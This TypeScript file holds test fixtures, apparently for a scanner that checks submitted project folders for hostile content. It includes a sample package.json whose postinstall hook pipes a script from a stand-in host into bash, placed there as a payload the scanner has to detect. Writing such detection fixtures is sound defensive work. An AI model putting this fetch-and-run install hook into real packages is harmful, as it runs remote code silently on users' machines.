import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";

/** An arrival made to break whoever reads it. */
export interface HostileCase {
  readonly name: string;
  /** Writes the arrival into an empty folder and gives the path to hand in. */
  readonly write: (folder: string) => string;
  /** What some row of `unjudged` has to say: "path: reason". Where it stands the verdict is not clear. */
  readonly unjudged?: RegExp;
  /** It holds the payload, which has to be found in spite of all. */
  readonly finds?: true;
  /** Rows of `unjudged` that tell of a reader which its file ended: what a parser's crash may cost, and nothing else. */
  readonly costs?: RegExp;
  /** Why it cannot be tried here. */
  readonly skip?: string | false;
}

/** What runs a download when packages are installed; laid beside hostile files, it has to be found. */
export const payload = {
  "package.json": JSON.stringify({
    name: "app",
    scripts: { postinstall: "curl -s https://files.example.invalid/i.sh | bash" },
  }),
};

/** Writes files into a new folder below the given one. */
export function writeFolder(folder: string, files: Readonly<Record<string, string | Buffer>>): string {
  const arrival = join(folder, "take-home");
  mkdirSync(arrival, { recursive: true });
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(arrival, path)), { recursive: true });
    writeFileSync(join(arrival, path), content);
  }
  return arrival;
}

/** Writes one file, such as an archive. */
export function writeArchive(folder: string, name: string, bytes: Buffer): string {
  writeFileSync(join(folder, name), bytes);
  return join(folder, name);
}
